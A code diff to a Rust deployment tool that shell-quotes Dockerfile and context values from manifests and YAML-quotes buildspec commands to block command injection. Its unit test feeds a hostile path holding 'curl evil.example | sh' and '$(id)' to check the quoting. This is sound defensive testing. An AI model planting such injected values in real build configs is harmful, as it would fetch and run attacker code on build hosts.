@@ -169,36 +169,68 @@ fn image_commands(ws: &Workspace) -> Vec<String> {
     let mut commands = Vec::new();
     for name in ws.workload_names() {
         let Ok(manifest) = ws.load_workload(&name) else { continue };
-        let build = manifest.doc.value.pointer("/image/build").cloned();
-        let (dockerfile, context) = match build {
-            Some(Value::String(dockerfile)) => {
-                let context = Path::new(&dockerfile).parent().map(|p| p.display().to_string()).unwrap_or_default();
-                (dockerfile, if context.is_empty() { ".".to_string() } else { context })
-            }
-            Some(Value::Object(b)) => {
-                let dockerfile = b.get("dockerfile").and_then(Value::as_str).unwrap_or("Dockerfile").to_string();
-                let context = b.get("context").and_then(Value::as_str).unwrap_or(".").to_string();
-                (dockerfile, context)
-            }
-            _ => continue,
-        };
-        let repo = format!("$REGISTRY/{}", naming::ecr_repository(&ws.app, &name));
-        commands.push(format!("docker build -t {repo}:$TAG -f {dockerfile} {context}"));
-        commands.push(format!("docker push {repo}:$TAG"));
+        if let Some(build) = manifest.doc.value.pointer("/image/build") {
+            commands.extend(build_commands(&naming::ecr_repository(&ws.app, &name), build));
+        }
     }
     commands
+}
+
+/// A POSIX shell word that stands for exactly `value`.
+fn shell_quote(value: &str) -> String {
+    if !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_./=:@%+,".contains(c)) {
+        return value.to_string();
+    }
+    format!("'{}'", value.replace('\'', "'\\''"))
+}
+
+/// `docker build` and `docker push` for one `image.build`, every value from
+/// the manifest shell-quoted (a manifest path is data, never shell syntax).
+/// Copilot's defaults: the context is the Dockerfile's directory, the
+/// Dockerfile is `Dockerfile` in the context.
+fn build_commands(repository: &str, build: &Value) -> Vec<String> {
+    let (dockerfile, context) = match build {
+        Value::String(dockerfile) => {
+            let context = Path::new(dockerfile).parent().map(|p| p.display().to_string()).unwrap_or_default();
+            (dockerfile.clone(), if context.is_empty() { ".".to_string() } else { context })
+        }
+        Value::Object(b) => {
+            match (b.get("dockerfile").and_then(Value::as_str), b.get("context").and_then(Value::as_str)) {
+                (Some(d), Some(c)) => (d.to_string(), c.to_string()),
+                (Some(d), None) => {
+                    let context = Path::new(d).parent().map(|p| p.display().to_string()).unwrap_or_default();
+                    (d.to_string(), if context.is_empty() { ".".to_string() } else { context })
+                }
+                (None, Some(c)) => (Path::new(c).join("Dockerfile").display().to_string(), c.to_string()),
+                (None, None) => return Vec::new(),
+            }
+        }
+        _ => return Vec::new(),
+    };
+    let image = format!("\"$REGISTRY\"/{}:\"$TAG\"", shell_quote(repository));
+    vec![
+        format!("docker build -t {image} -f {} {}", shell_quote(&dockerfile), shell_quote(&context)),
+        format!("docker push {image}"),
+    ]
 }
 
 /// The buildspec `pipeline init` writes: installs this version of ferry,
 /// builds and pushes images, then renders every stack for each environment
 /// into `infrastructure/`, where the deploy actions read them.
 fn buildspec(ws: &Workspace, envs: &[String]) -> String {
+    buildspec_with(image_commands(ws), envs)
+}
+
+fn buildspec_with(mut images: Vec<String>, envs: &[String]) -> String {
     let version = env!("CARGO_PKG_VERSION");
-    let mut images = image_commands(ws);
     if images.is_empty() {
         images.push("echo \"no workload builds an image\"".into());
     }
-    let images: String = images.iter().map(|c| format!("      - {c}\n")).collect();
+    // Each command is a YAML double-quoted string: a `#` or `: ` in a path
+    // cannot end the scalar or start a comment.
+    let images: String =
+        images.iter().map(|c| format!("      - {}\n", serde_json::to_string(c).unwrap_or_default())).collect();
+    let envs: Vec<String> = envs.iter().map(|e| e.replace(['\n', '\r'], " ")).collect();
     format!(
         r#"# Buildspec of the pipeline: CodeBuild runs it in the Build stage.
 # It builds and pushes images, then renders the stack of every environment,
@@ -829,6 +861,30 @@ mod tests {
 
     fn run<T>(f: impl std::future::Future<Output = T>) -> T {
         tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap().block_on(f)
+    }
+
+    #[test]
+    fn buildspec_quotes_every_manifest_value() {
+        let hostile =
+            serde_json::json!({"dockerfile": "api/Dockerfile; curl evil.example | sh #", "context": "a b/$(id)"});
+        let commands = build_commands("chat/api", &hostile);
+        assert_eq!(
+            commands[0],
+            "docker build -t \"$REGISTRY\"/chat/api:\"$TAG\" -f 'api/Dockerfile; curl evil.example | sh #' 'a b/$(id)'"
+        );
+        let quote = build_commands("chat/it's", &serde_json::json!("it's/Dockerfile"));
+        assert_eq!(
+            quote[0],
+            "docker build -t \"$REGISTRY\"/'chat/it'\\''s':\"$TAG\" -f 'it'\\''s/Dockerfile' 'it'\\''s'"
+        );
+        // Copilot's default Dockerfile is inside the context.
+        let context_only = build_commands("chat/api", &serde_json::json!({"context": "api"}));
+        assert!(context_only[0].ends_with("-f api/Dockerfile api"), "{}", context_only[0]);
+        // The YAML keeps each command whole, `#` and `: ` included.
+        let text = buildspec_with(commands.clone(), &["test".into()]);
+        let doc = ferry_core::YamlDoc::parse(Path::new("buildspec.yml"), text).unwrap();
+        assert_eq!(doc.value["phases"]["build"]["commands"][0], commands[0].as_str());
+        assert_eq!(doc.value["phases"]["build"]["commands"][1], commands[1].as_str());
     }
 
     #[test]
